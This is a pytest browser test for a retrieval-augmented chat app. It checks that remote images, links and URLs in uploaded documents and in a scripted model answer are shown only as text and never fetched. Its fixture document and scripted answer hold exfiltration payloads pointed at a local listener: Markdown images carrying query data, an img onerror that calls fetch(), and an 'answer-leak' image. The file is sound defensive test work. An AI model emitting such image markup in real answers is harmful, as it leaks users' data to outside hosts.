"""No remote resources from documents or answers, in a real browser (Debian chromium + playwright).

A document holds a Markdown image, an <img> tag, a link and a bare URL, all pointing at a local
listener; the model (scripted here: the real ones cannot be made to write a given image) answers
with an exfiltrating image. The page must show the passage and the answer as text, and the
listener must see no request at all. The model's words are checked while they stream: the final
answer keeps only sentences that verify against the documents (rag/chain.py), so an image the
model made up is on screen only then, which is exactly when it must stay text.
"""

from __future__ import annotations

import http.server
import threading
import time

import pytest

import docgen
from conftest import launched_app, open_page
from fakes import slow_scripted_llm
from rag.settings import Settings

pytestmark = pytest.mark.slow


@pytest.fixture
def listener():
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", seen
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_remote_images_and_links_are_text_and_never_fetched(browser, listener, tmp_path, monkeypatch):
    import rag.llm
    from rag.app.web import build_app

    base, seen = listener
    doc = docgen.make_text(
        tmp_path / "upload" / "beacon.md",
        "# Beacon\n\nThe beacon on Skarv island is lit at dusk every evening. "
        f"![map]({base}/doc-image?data=secret) <img src={base}/doc-img-tag> "
        f'<img src="x" onerror="fetch(\'{base}/onerror\')"> [the chart]({base}/doc-link) {base}/bare\n',
    )
    answer = f"The beacon is lit at dusk [1]. ![x]({base}/answer-leak?q=history) <img src={base}/answer-tag>"
    monkeypatch.setattr(rag.llm, "make_llm", lambda settings: slow_scripted_llm(answer, delay=0.3))

    demo = build_app(Settings(data_dir=tmp_path / "data", collection="remote", public=True, temperature=0.0))
    with launched_app(demo) as url:
        _check_page(browser, url, doc, base, seen)


def _check_page(browser, url, doc, base, seen):
    context, page = open_page(browser, url)
    try:
        page.locator("#upload input[type=file]").set_input_files(str(doc))
        page.locator("#upload-status").filter(has_text="added").wait_for(timeout=180_000)

        page.locator("#question textarea").fill("When is the beacon on Skarv island lit?")
        page.locator("#ask").click()
        sources = page.locator("#sources")
        chat = page.locator("#chat")
        streamed = None  # the chat while the model's image was on screen
        deadline = time.monotonic() + 120
        while "beacon.md" not in sources.inner_text():
            text = chat.inner_text()
            if "answer-leak" in text and streamed is None:
                streamed = text
                assert page.locator("#chat img[src*='127.0.0.1']").count() == 0, chat.inner_html()
            assert time.monotonic() < deadline, f"no sources after 120 s; chat: {text!r}"
            time.sleep(0.1)
        time.sleep(2)  # give any image request time to arrive

        shown = sources.inner_text()
        print(f"\nsources as shown: {shown!r}\nchat while streaming: {streamed!r}\n"
              f"chat at the end: {chat.inner_text()!r}\nlistener saw: {seen}")
        assert f"{base}/doc-image?data=secret" in shown and "doc-link" in shown  # shown as text
        assert streamed is not None, "the model's image never showed as text while it streamed"
        assert "lit at dusk" in chat.inner_text()
        for area in ("#sources", "#chat"):
            assert page.locator(f"{area} img[src*='127.0.0.1']").count() == 0
            assert page.locator(f"{area} a[href*='127.0.0.1']").count() == 0
        assert seen == [], f"the browser fetched {seen}"
    finally:
        context.close()
